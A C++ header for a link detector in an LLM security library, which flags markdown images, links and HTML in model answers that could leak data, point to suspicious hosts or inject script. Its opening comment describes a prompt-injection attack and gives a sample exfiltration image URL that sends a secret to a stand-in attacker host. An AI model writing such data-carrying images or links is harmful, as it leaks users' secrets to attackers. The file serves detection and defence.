// LinkDetector: what an answer's links, images and markup would do when an app renders
// them. A prompt injection that wants data out of a chat asks the model to write an image
// whose URL carries the data ("![](https://evil.example/p?q=<secret>)"): the user's
// browser fetches it unasked. This detector reads every URL in markdown images and links,
// HTML attributes and bare text, and reports:
//
//   exfiltration    an image (markdown or <img>) or link to a host not on the allowlist
//                   whose query or path carries data (long, high-entropy or encoded
//                   values); a data: URI image; an image to any host not on the allowlist
//                   is a weak signal on its own;
//   unsafe_url      a host that is an IP literal (also decimal or hex IPv4) or punycode
//                   ("xn--"), the shapes of look-alike and throwaway hosts;
//   html_injection  <script>, <iframe>, <object>, <embed>, <form>, <meta http-equiv>,
//                   inline event handlers (onerror=) and javascript: or vbscript: URLs,
//                   outside code blocks.
//
//   auto links = LinkDetector::create({.allowed_domains = {"example.com"}});
//
// Allowed domains cover their subdomains. Deny-listed domains are the policy's deny list.
#pragma once

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include <re2/re2.h>

#include "core/detector.h"
#include "core/result.h"

namespace llmsec {

struct LinkSpec {
  std::vector<std::string> allowed_domains;  // lower-case, "example.com" covers "a.example.com"
  bool input = false;
  bool output = true;
};

class LinkDetector final : public Detector {
 public:
  static Result<std::unique_ptr<LinkDetector>> create(const LinkSpec& spec);

  std::string_view name() const override { return "links"; }
  bool applies_to(Direction direction) const override {
    return direction == Direction::kInput ? spec_.input : spec_.output;
  }
  std::vector<std::string> categories() const override {
    return {"exfiltration", "unsafe_url", "html_injection"};
  }
  void scan(const ScanInput& input, std::vector<Finding>& out) const override;

  bool allowed(std::string_view host) const;

 private:
  LinkDetector() = default;

  LinkSpec spec_;
  std::unique_ptr<RE2> image_;   // markdown image: group 1 the URL
  std::unique_ptr<RE2> link_;    // markdown link: group 1 the URL
  std::unique_ptr<RE2> tag_;     // an HTML tag: group 1 its name, group 2 its attributes
  std::unique_ptr<RE2> url_;     // a bare URL
  std::unique_ptr<RE2> script_;  // javascript: and vbscript: URLs anywhere
};

// The parts of a URL the detector judges (exposed for tests).
struct UrlParts {
  std::string scheme;  // lower-case
  std::string host;    // lower-case, without port, userinfo or IPv6 brackets
  std::string path;
  std::string query;
  bool ip_literal = false;
};
UrlParts parse_url(std::string_view url);
// Whether the URL carries data: long or high-entropy query values, or path segments.
bool carries_data(const UrlParts& url, bool path_too = true);

}  // namespace llmsec
